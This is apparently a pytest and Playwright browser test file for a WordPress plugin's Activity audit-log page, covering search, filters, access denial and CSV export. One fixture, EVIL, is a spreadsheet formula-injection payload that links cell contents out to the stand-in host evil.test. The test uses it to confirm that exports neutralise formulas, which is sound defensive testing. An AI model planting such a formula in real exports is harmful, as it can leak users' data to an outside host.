"""The page Activity: what happened is found, followed and saved, and a saved file runs nothing."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.wordpress.browser import PAGES, Tabs, fits, settled
from tests.wordpress.scene import Item, Scene, until
from tests.wordpress.stack.template import CHECKOUT

pytestmark = [pytest.mark.wordpress, pytest.mark.browser]

RECORDED = re.compile(r'audit\.record\((?:[^()]|\([^()]*\))*?f?"([a-z_]+\.(?:[a-z_]+|\{action\}))"')
EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"Free scarf")'


def approved(scene: Scene, name: str) -> tuple[Item, str]:
    """A product whose price a person lowered through a proposal."""
    item = scene.product(name)
    ident = scene.propose(item)
    body = {"digest": scene.proposal(ident)["digest"]}
    scene.rest("POST", f"/devskyy/v1/proposals/{ident}/approve", json=body)
    until("the sidecar knows", lambda: scene.state(ident) == "applied")
    return item, ident


def test_what_was_decided_is_found_and_followed(scene: Scene, tabs: Tabs) -> None:
    item, ident = approved(scene, "Noted scarf")
    page = settled(tabs.open(scene, PAGES["activity"], "admin"))
    unbroken = re.compile(r"Unbroken since .+ entries.*checked just now")
    expect(page.locator(".devskyy-chain")).to_have_text(unbroken)
    row = page.locator("tr").filter(has_text="Approved a proposal").first
    expect(row).to_contain_text(f"Lower {item.name} from $40.00 to $30.00.")
    expect(row.locator("del")).to_contain_text("$40.00")
    expect(row.locator("ins")).to_contain_text("$30.00")
    expect(row).to_contain_text("admin")
    row.locator(".devskyy-title").focus()
    page.keyboard.press("Enter")
    panel = page.locator("aside.devskyy-panel")
    link = panel.get_by_role("link", name=item.name, exact=True)
    assert f"post={item.id}&" in (link.get_attribute("href") or "")
    expect(panel.get_by_text("proposal.approve")).to_be_visible()
    page.keyboard.press("Escape")
    expect(panel).to_have_count(0)
    expect(row.locator(".devskyy-title")).to_be_focused()
    row.get_by_role("link").first.click()
    expect(page.locator("aside.devskyy-panel .devskyy-changes")).to_be_visible()
    assert ident in page.url


def test_search_and_filters_narrow_the_list(scene: Scene, tabs: Tabs) -> None:
    _, ident = approved(scene, "Sought scarf")
    scene.rest("POST", "/devskyy/v1/agents/reorder-points/runs", login="shopmanager", json={"input": {}})
    page = settled(tabs.open(scene, PAGES["activity"], "admin"))
    rows = page.locator("tr[data-row]")
    page.get_by_label("Everybody").select_option(label="shopmanager")
    expect(rows.filter(has_text="admin")).to_have_count(0)
    expect(rows.filter(has_text="Started a run").first).to_be_visible()
    page.get_by_label("All actions").select_option("proposal.")
    expect(rows.filter(has_text="Started a run")).to_have_count(0)
    page.get_by_role("button", name="Clear filters").first.click()
    page.get_by_role("searchbox").fill(ident)
    expect(rows.filter(has_text="Started a run")).to_have_count(0)
    expect(rows.filter(has_text="Approved a proposal")).to_have_count(1)
    page.get_by_role("searchbox").fill("nothing-has-this-name")
    expect(page.get_by_role("heading", name="Nothing fits these filters")).to_be_visible()
    page.get_by_role("button", name="Clear filters").first.click()
    expect(rows.first).to_be_visible()
    page.get_by_label("Any time").select_option("own")
    page.get_by_label("To", exact=True).fill("2020-01-01")
    expect(page.get_by_role("heading", name="Nothing fits these filters")).to_be_visible()


def test_the_saved_file_opens_without_running_anything(scene: Scene, tabs: Tabs, tmp_path: Path) -> None:
    item, _ = approved(scene, EVIL)
    page = settled(tabs.open(scene, PAGES["activity"], "admin"))
    page.get_by_label("All actions").select_option("proposal.")
    settled(page)
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save as CSV").click()
    assert re.fullmatch(r"devskyy-activity-\d{4}-\d\d-\d\d\.csv", saved.value.suggested_filename)
    saved.value.save_as(tmp_path / "activity.csv")
    raw = (tmp_path / "activity.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))
    assert {row["Action"].split(".")[0] for row in rows} == {"proposal"}
    mine = [row for row in rows if "HYPERLINK" in row["On what"]]
    assert {row["What"] for row in mine} >= {"Approved a proposal", "Change applied"}
    assert all(row["Before"] == "regular_price: 40.00" for row in mine if row["What"] == "Change applied")
    assert [row["On what"][:2] for row in mine] == ["'="] * len(mine)
    for row in rows:
        assert None not in row  # no cell spilled over
        for cell in row.values():
            assert not re.match(r"\s*[=+\-@]", cell), cell
    scene.rest("DELETE", f"/wc/v3/products/{item.id}", params={"force": "true"})


def test_without_the_sidecar_the_last_known_state_stays(scene: Scene, tabs: Tabs) -> None:
    approved(scene, "Remembered scarf")
    # The names of the proposals come after the page, and are remembered too.
    settled(tabs.open(scene, PAGES["activity"], "admin")).wait_for_load_state("networkidle")
    scene.sidecar.stop()
    page = settled(tabs.open(scene, PAGES["activity"], "admin"))
    expect(page.get_by_text("You see what was known").first).to_be_visible()
    expect(page.locator("tr").filter(has_text="Approved a proposal").first).to_be_visible()
    expect(page.get_by_role("button", name="Save as CSV")).to_have_attribute("aria-disabled", "true")
    scene.sidecar.start()
    page.get_by_role("button", name="Try again").first.click()
    expect(page.get_by_text("You see what was known")).to_have_count(0)


def test_an_entry_fits_the_window(scene: Scene, tabs: Tabs) -> None:
    approved(scene, "A scarf with a rather long name that goes on for a while and then some more")
    page = settled(tabs.open(scene, PAGES["activity"], "admin"))
    fits(page, "activity-list")
    page.locator(".devskyy-title").filter(has_text="Approved a proposal").first.click()
    expect(page.locator("aside.devskyy-panel")).to_be_visible()
    fits(page, "activity-entry")


@pytest.mark.parametrize("login", ["editor", "customer"])
def test_others_read_none_of_it(scene: Scene, login: str) -> None:
    for route in ("audit", "audit/summary", "audit/export"):
        answer = scene.person(login).rest("GET", f"/devskyy/v1/{route}")
        assert (answer.status_code, answer.json()["code"]) == (403, "not_allowed"), route


def test_every_action_that_the_sidecar_notes_has_words() -> None:
    sources = [path.read_text() for path in (CHECKOUT / "sidecar").rglob("*.py")]
    noted = {name for text in sources for name in RECORDED.findall(text)}
    assert len(noted) > 10
    words = (CHECKOUT / "wp-plugin" / "src" / "Actions.php").read_text()
    known = set(re.findall(r"'([a-z_]+\.[a-z_]+)' => __\(", words))
    proposals = {"approve", "reject", "snooze", "undo", "applying", "applied", "stale", "failed", "undone"}
    assert {f"proposal.{action}" for action in proposals} <= known
    assert {name for name in noted if "{" not in name} <= known
